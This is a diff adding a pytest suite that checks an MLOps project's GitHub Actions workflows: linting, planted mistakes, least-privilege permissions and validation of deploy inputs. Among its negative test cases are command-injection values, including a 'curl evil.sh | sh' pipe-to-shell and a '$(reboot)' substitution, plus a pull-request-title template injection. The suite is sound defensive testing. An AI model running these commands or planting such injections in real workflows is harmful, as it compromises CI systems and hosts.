@@ -1,0 +1,95 @@
+"""GitHub workflows: linted offline, planted mistakes caught, every make target they call exists."""
+
+from __future__ import annotations
+
+import re
+import subprocess
+from pathlib import Path
+
+import pytest
+import yaml
+
+from mlops.specs import ROOT
+from mlops.workflow_lint import make_targets, target_exists
+
+WORKFLOWS = ROOT / ".github" / "workflows"
+
+
+def lint(*paths: Path) -> subprocess.CompletedProcess:
+    return subprocess.run(["make", "lint-workflows", f"WORKFLOWS={' '.join(map(str, paths))}"],
+                          cwd=ROOT, capture_output=True, text=True, timeout=300)
+
+
+def test_repo_workflows_pass_every_linter():
+    result = lint(*sorted(WORKFLOWS.glob("*.yml")))
+    assert result.returncode == 0, result.stdout + result.stderr
+    assert "No findings to report" in result.stdout + result.stderr
+
+
+PLANTED = {
+    "unpinned action": ("train.yml", "azure/login@a65d910e8af852a8061c627c456678983e180302 # v2.2.0",
+                        "azure/login@v2", "unpinned-uses"),
+    "script injection": ("ci.yml", "      - name: Set up\n",
+                         '      - name: Greet\n        run: echo "${{ github.event.pull_request'
+                         '.title }}"\n      - name: Set up\n', "template-injection"),
+    "missing OIDC permission": ("train.yml", "      id-token: write # OpenID Connect login to "
+                                "Azure: no stored credentials\n", "", "without `id-token: write`"),
+    "no permissions block": ("ci.yml", "permissions:\n  contents: read\n\n", "",
+                             "excessive-permissions"),
+    "unknown make target": ("ci.yml", "run: make validate", "run: make validate-all",
+                            "runs `make validate-all`"),
+    "invalid YAML": ("train.yml", "        run: make setup validate",
+                     "        run: make: setup validate", "not valid YAML"),
+}
+
+
+@pytest.mark.parametrize("case", PLANTED, ids=list(PLANTED))
+def test_planted_mistake_fails_the_lint(case, tmp_path):
+    name, old, new, expected = PLANTED[case]
+    text = (WORKFLOWS / name).read_text()
+    assert old in text
+    broken = tmp_path / name
+    broken.write_text(text.replace(old, new, 1))
+    result = lint(broken)
+    assert result.returncode != 0
+    assert expected in result.stdout + result.stderr
+
+
+def test_every_make_target_a_workflow_calls_exists():
+    called = set()
+    for path in WORKFLOWS.glob("*.yml"):
+        called |= make_targets(yaml.safe_load(path.read_text()))
+    assert {"setup", "lint", "validate", "test", "register", "deploy-green", "invoke-green",
+            "shift", "rollback", "delete-deployment", "endpoint", "slots"} <= called
+    missing = [t for t in called if not target_exists(t)]
+    assert not missing
+
+
+def test_ci_runs_setup_lint_validate_test_with_least_privilege():
+    ci = yaml.safe_load((WORKFLOWS / "ci.yml").read_text())
+    runs = [s.get("run") for s in ci["jobs"]["test"]["steps"] if s.get("run")]
+    assert runs == ["make setup", "make lint", "make validate", "make test"]
+    assert ci["permissions"] == {"contents": "read"}
+    assert ci["concurrency"]["cancel-in-progress"] is True
+
+
+def test_untrusted_inputs_never_reach_run_scripts():
+    for path in WORKFLOWS.glob("*.yml"):
+        for job in yaml.safe_load(path.read_text())["jobs"].values():
+            for step in job["steps"]:
+                assert not re.search(r"\$\{\{\s*(inputs|github\.event)", str(step.get("run", ""))), \
+                    f"{path.name}: {step.get('name')}"
+
+
+@pytest.mark.parametrize(("model", "steps", "ok"), [
+    ("azureml:fowl-classifier@latest", "10 50 100", True),
+    ("azureml:fowl-classifier:3", "100", True),
+    ("azureml:x@latest; curl evil.sh | sh", "100", False),
+    ("fowl-classifier", "100", False),
+    ("azureml:fowl-classifier@latest", "10 $(reboot)", False),
+    ("azureml:fowl-classifier@latest", "150", False),
+])
+def test_deploy_inputs_are_checked_before_use(model, steps, ok):
+    result = subprocess.run(["bash", "scripts/check_deploy_inputs.sh", model, steps], cwd=ROOT,
+                            capture_output=True, text=True)
+    assert (result.returncode == 0) is ok
